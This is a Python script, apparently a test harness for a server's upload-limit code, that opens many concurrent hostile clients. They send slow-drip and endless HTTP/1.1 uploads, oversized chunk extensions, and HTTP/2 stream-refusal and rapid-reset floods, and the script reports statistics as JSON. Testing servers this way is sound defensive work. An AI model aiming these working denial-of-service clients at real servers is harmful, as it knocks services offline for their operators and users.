"""Clients that mean no good, as many as are asked for, until stdin ends:

    attackers.py KIND ADDRESS PORT COUNT

KIND: drip       uploads of a gigabyte, a byte each second
      flood      uploads without an end, as fast as they are taken
      extensions chunks of one byte, each with an extension of 4,000
      streams    HTTP/2: a hundred streams a connection, each refused, ended, and followed by another
      resets     HTTP/2: streams that are reset as soon as they are open

Each connection that the server closes is opened anew. Prints what it came to, as JSON.
"""

import asyncio
import json
import resource
import socket
import sys
import time

import hpack
from limit_body.frames import CANCEL, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM, frame

HEAD = b"POST /up HTTP/1.1\r\nHost: attack\r\n"
STREAMS = 100


class Sums:
    def __init__(self):
        self.began = time.monotonic()
        self.connections = self.failed = self.bytes = self.requests = 0
        # How long the server has held a connection, and how much it has taken from one, at most.
        self.longest = 0.0
        self.most = 0

    def show(self):
        print(json.dumps(vars(self) | {"seconds": time.monotonic() - self.began}), flush=True)


class Attack:
    """One connection after the other."""

    def __init__(self, place, number, sums):
        self.place, self.number, self.sums = place, number, sums
        self.loop = asyncio.get_running_loop()

    async def run(self):
        while True:
            began, self.sent = time.monotonic(), 0
            with socket.socket() as self.socket:
                self.socket.setblocking(False)
                # Many sources: ports rest for a minute.
                self.socket.bind((f"127.2.{self.number % 250}.{1 + self.sums.connections % 250}", 0))
                try:
                    await self.loop.sock_connect(self.socket, self.place)
                    self.sums.connections += 1
                    await self.attack()
                except OSError:
                    self.sums.failed += 1
            self.sums.longest = max(self.sums.longest, time.monotonic() - began)
            self.sums.most = max(self.sums.most, self.sent)
            await asyncio.sleep(0.01)

    async def send(self, data):
        await self.loop.sock_sendall(self.socket, data)
        self.sent += len(data)
        self.sums.bytes += len(data)

    async def read(self, take=lambda data: None):
        """Until the server closes."""
        while data := await self.loop.sock_recv(self.socket, 1 << 16):
            take(data)

    async def until_reset(self, sending, reading):
        """Sends until that fails: what the server has closed may have to be read all the same."""
        task = asyncio.ensure_future(reading)
        try:
            await sending
        finally:
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)

    async def until_closed(self, sending, reading):
        """Sends until the server closes."""
        tasks = [asyncio.ensure_future(sending), asyncio.ensure_future(reading)]
        try:
            await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)


class Upload(Attack):
    """An upload over HTTP/1.1: what it begins with, a piece that is sent again and again, how many seconds lie between."""

    start, piece, pause = b"", b"", 0

    async def attack(self):
        await self.send(HEAD + self.start)
        self.sums.requests += 1
        await self.until_reset(self.go_on(), self.read())

    async def go_on(self):
        while True:
            if self.pause:
                await asyncio.sleep(self.pause)
            await self.send(self.piece)


class Drip(Upload):
    start, piece, pause = b"Content-Length: 1000000000\r\n\r\n", b"x", 1


class Flood(Upload):
    start, piece = b"Content-Length: 1000000000000\r\n\r\n", bytes(1 << 18)


class Extensions(Upload):
    start = b"Transfer-Encoding: chunked\r\n\r\n800\r\n" + bytes(2048) + b"\r\n"
    piece = (b"1;" + b"e" * 4000 + b"\r\nx\r\n") * 64


class Http2(Attack):
    async def attack(self):
        self.unread = bytearray()
        self.encoder = hpack.Encoder()
        self.stream = -1
        # The streams that have not been answered, and whether there is news of any.
        self.waiting = set()
        self.news = asyncio.Event()
        await self.send(PREFACE)
        await self.until_closed(self.attack_streams(), self.read(self.take))

    def request(self, length):
        """The header of a request, and its stream."""
        self.stream += 2
        self.sums.requests += 1
        fields = [(":method", "POST"), (":scheme", "http"), (":authority", "attack"), (":path", "/up"),
                  ("content-length", length)]
        return frame(HEADERS, END_HEADERS, self.stream, self.encoder.encode(fields))

    def take(self, data):
        self.unread += data
        while len(self.unread) >= 9 + (length := int.from_bytes(self.unread[:3], "big")):
            kind, flags = self.unread[3], self.unread[4]
            if kind == GOAWAY:
                self.socket.shutdown(socket.SHUT_RDWR)
            elif kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
                self.waiting.discard(int.from_bytes(self.unread[5:9], "big"))
                self.news.set()
            del self.unread[: 9 + length]


class Streams(Http2):
    async def attack_streams(self):
        while True:
            # Of each body a part comes, and the rest when all are refused.
            begun, ends = b"", b""
            for _ in range(STREAMS):
                begun += self.request("10000") + frame(DATA, 0, self.stream, bytes(100))
                ends += frame(DATA, END_STREAM, self.stream, bytes(9900))
                self.waiting.add(self.stream)
            await self.send(begun)
            while self.waiting:
                self.news.clear()
                await self.news.wait()
            await self.send(ends)


class Resets(Http2):
    async def attack_streams(self):
        while True:
            batch = b""
            for _ in range(STREAMS):
                batch += self.request("10000") + frame(RST_STREAM, 0, self.stream, CANCEL)
            await self.send(batch)


KINDS = {"drip": Drip, "flood": Flood, "extensions": Extensions, "streams": Streams, "resets": Resets}


async def main(kind, address, port, count):
    sums = Sums()
    attacks = [asyncio.ensure_future(KINDS[kind]((address, int(port)), i, sums).run()) for i in range(int(count))]
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    sums.show()
    for attack in attacks:
        attack.cancel()


if __name__ == "__main__":
    files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    asyncio.run(main(*sys.argv[1:5]))
